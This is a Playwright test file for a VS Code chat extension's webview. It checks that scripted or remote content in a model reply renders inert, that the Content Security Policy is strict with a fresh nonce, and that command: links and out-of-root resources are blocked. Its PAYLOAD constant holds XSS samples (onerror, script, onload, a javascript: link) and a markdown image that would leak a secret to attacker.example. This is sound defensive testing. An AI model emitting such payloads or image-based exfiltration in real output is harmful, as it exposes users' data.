// docs/threat-model.md, W1-W4 and W6, in real VS Code: model output cannot run script or fetch anything, the
// webview's HTML carries a strict CSP with a nonce fresh on every render, a resource outside the built webview
// folder does not load, and a command: link does nothing.
import { test, expect } from './fixtures';

test.use({
  codeServerOptions: {
    useEndpoint: true,
    // A stylesheet in the workspace: outside the view's only local resource root (dist/webview).
    files: { 'README.md': '# sample\n', 'probe.css': 'body { --probe: 1; }\n' },
  },
});

const PAYLOAD = [
  'Here is what the file said:',
  '',
  '<img src=x onerror="window.__pwned = 1">',
  '<script>window.__pwned = 2</script>',
  '<svg onload="window.__pwned = 3"><circle r="5"/></svg>',
  '<iframe src="https://attacker.example/frame"></iframe>',
  '',
  '[click me](javascript:window.__pwned=4) and [docs](https://example.com/docs)',
  '',
  '![tracking pixel](https://attacker.example/pixel.png?secret=KEY)',
  '',
  '<img src="https://attacker.example/img.png">',
  '',
  'Done.',
].join('\n');

test('script payloads render inert, remote images are not fetched, links go through VS Code', async ({
  workbench,
  endpoint,
  page,
}) => {
  // Every request the page makes is seen here. None may go to a host the reply named, and the webview's own
  // frames may load nothing but the extension's resources (served by VS Code from the extension folder).
  const toPayloadHosts: string[] = [];
  const fromWebview: string[] = [];
  page.on('request', (r) => {
    const url = r.url();
    if (/attacker\.example|example\.com/.test(url)) toPayloadHosts.push(url);
    const frameUrl = r.frame().url();
    if (/vscode-webview|vscode-cdn/.test(frameUrl) && !/vscode-resource|^data:|^blob:/.test(url))
      fromWebview.push(url);
  });
  await endpoint.script(PAYLOAD);
  const chat = await workbench.openChatView();
  await chat.getByRole('textbox', { name: 'Message Claude' }).fill('Summarise the file');
  await chat.getByRole('textbox', { name: 'Message Claude' }).press('Enter');
  const reply = chat.locator('article.turn.assistant').last();
  await expect(reply).toContainText('Done.');

  const probe = await chat.evaluate(() => {
    const root = document.querySelector('article.turn.assistant:last-of-type') ?? document.body;
    const withHandlers = [...root.querySelectorAll('*')].filter((el) =>
      [...el.attributes].some((a) => a.name.toLowerCase().startsWith('on')),
    ).length;
    return {
      pwned: (window as unknown as { __pwned?: number }).__pwned ?? 0,
      scripts: root.querySelectorAll('script').length,
      iframes: root.querySelectorAll('iframe').length,
      svgs: root.querySelectorAll('svg').length,
      remoteImgs: [...root.querySelectorAll('img')].filter((i) =>
        /^https?:|^\/\//.test(i.getAttribute('src') ?? ''),
      ).length,
      jsLinks: [...root.querySelectorAll('a')].filter((a) =>
        /^\s*javascript:/i.test(a.getAttribute('href') ?? ''),
      ).length,
      withHandlers,
    };
  });
  expect(probe).toEqual({
    pwned: 0,
    scripts: 0,
    iframes: 0,
    svgs: 0,
    remoteImgs: 0,
    jsLinks: 0,
    withHandlers: 0,
  });
  // The tracking image shows as a placeholder naming it, not as an image.
  await expect(reply).toContainText('tracking pixel');
  // Clicking the javascript: link does nothing; clicking an http link asks VS Code, which asks the user.
  await reply.getByText('click me').click();
  expect(await chat.evaluate(() => (window as unknown as { __pwned?: number }).__pwned ?? 0)).toBe(0);
  await reply.getByRole('link', { name: 'docs' }).click();
  await expect(page.locator('.monaco-dialog-box')).toContainText('example.com');
  await page.keyboard.press('Escape');
  // The dialog came after every click above, so any request those clicks made has been seen by now.
  await expect(page.locator('.monaco-dialog-box')).toBeHidden();
  expect(toPayloadHosts).toEqual([]);
  expect(fromWebview).toEqual([]);
  await workbench.screenshot('safety-inert-payloads');
});

test('the webview document has a strict CSP with a fresh 128-bit nonce', async ({ workbench, page }) => {
  const chat = await workbench.openChatView();
  const { csp, nonces } = await chat.evaluate(() => ({
    csp: document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
    // Scripts with a src are ours (VS Code injects its API shim inline, outside our page's control).
    nonces: [...document.querySelectorAll('script[src]')].map((s) => (s as HTMLScriptElement).nonce),
  }));
  expect(csp).toContain("default-src 'none'");
  expect(csp).not.toContain('unsafe-inline');
  expect(csp).not.toContain('unsafe-eval');
  // No scheme-wide sources anywhere, and images only from data: URLs (remote images are never fetched).
  expect(csp).not.toMatch(/(^|\s)https?:(\s|;|$)/);
  expect(csp).toMatch(/img-src data:(;|$)/);
  expect(csp).not.toMatch(/connect-src/);
  const nonce = /script-src 'nonce-([^']+)'/.exec(csp)?.[1] ?? '';
  expect(Buffer.from(nonce, 'base64').length).toBeGreaterThanOrEqual(16);
  expect(nonces).toEqual([nonce]);
  // No handle to the host is left on window for injected content to find.
  const handles = await chat.evaluate(() => {
    const onWindow = Object.keys(window).filter((k) => /vscode/i.test(k) && k !== 'acquireVsCodeApi');
    let secondAcquire = 'succeeded';
    try {
      (window as unknown as { acquireVsCodeApi(): unknown }).acquireVsCodeApi();
    } catch {
      secondAcquire = 'refused';
    }
    return { onWindow, secondAcquire };
  });
  // The one handle was taken at start-up and kept in a module; a script that got in could not get another.
  expect(handles).toEqual({ onWindow: [], secondAcquire: 'refused' });

  // Hidden, the view's content is released; shown again, it is rendered anew, with a nonce of its own.
  await page.locator('.activitybar [aria-label^="Explorer"]').first().click();
  await expect.poll(() => workbench.chatFrameCount()).toBe(0);
  const again = await workbench.openChatView();
  const csp2 = await again.evaluate(
    () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
  );
  const nonce2 = /script-src 'nonce-([^']+)'/.exec(csp2)?.[1] ?? '';
  expect(Buffer.from(nonce2, 'base64').length).toBeGreaterThanOrEqual(16);
  expect(nonce2).not.toBe(nonce);
});

test('webview options hold: a resource outside dist/webview does not load, a command: link does nothing (W4)', async ({
  workbench,
  codeServer,
  page,
}) => {
  const chat = await workbench.openChatView();
  // Load stylesheets by the same URL scheme as the page's own: one inside the built webview folder (loads), one
  // in the workspace (refused by localResourceRoots; the CSP allows the origin, so only the roots stop it).
  const loads = await chat.evaluate(async (workspace) => {
    const own = document.querySelector<HTMLLinkElement>('link[rel="stylesheet"][href*="main.css"]')!.href;
    const url = new URL(own);
    const at = url.pathname.indexOf('/dist/webview/main.css');
    const load = (pathname: string) =>
      new Promise<string>((resolve) => {
        const u = new URL(own);
        u.pathname = pathname;
        u.search = '?probe';
        const link = document.createElement('link');
        link.rel = 'stylesheet';
        link.href = u.href;
        link.onload = () => resolve(`loaded ${u.pathname}`);
        link.onerror = () => resolve(`refused ${u.pathname}`);
        document.head.append(link);
      });
    return {
      inside: await load(url.pathname),
      // The extension folder itself, one level up from the root, and the workspace.
      beside: await load(`${url.pathname.slice(0, at)}/package.json`),
      workspace: await load(`${workspace}/probe.css`),
    };
  }, codeServer.workspace);
  expect(loads.inside).toMatch(/^loaded .*\/dist\/webview\/main\.css$/);
  expect(loads.workspace).toMatch(/^refused .*\/probe\.css$/);
  expect(loads.beside).toMatch(/^refused .*\/package\.json$/);

  // A command: link clicked in the webview, then the model picker: the webview hands both to the workbench over
  // one channel, in order, so once the picker shows, the link has been dealt with. The command would have hidden
  // the sidebar.
  await chat.evaluate(() => {
    const a = document.createElement('a');
    a.id = 'cmd-probe';
    a.href = 'command:workbench.action.toggleSidebarVisibility';
    a.textContent = 'cmd-probe';
    document.body.prepend(a);
  });
  await chat.locator('#cmd-probe').click();
  await chat.getByRole('button', { name: /^Model: .*Select Model$/ }).click();
  await expect(page.locator('.quick-input-list .monaco-list-row').first()).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(page.locator('.part.sidebar')).toBeVisible();
  await expect(chat.locator('#cmd-probe')).toBeVisible();
});
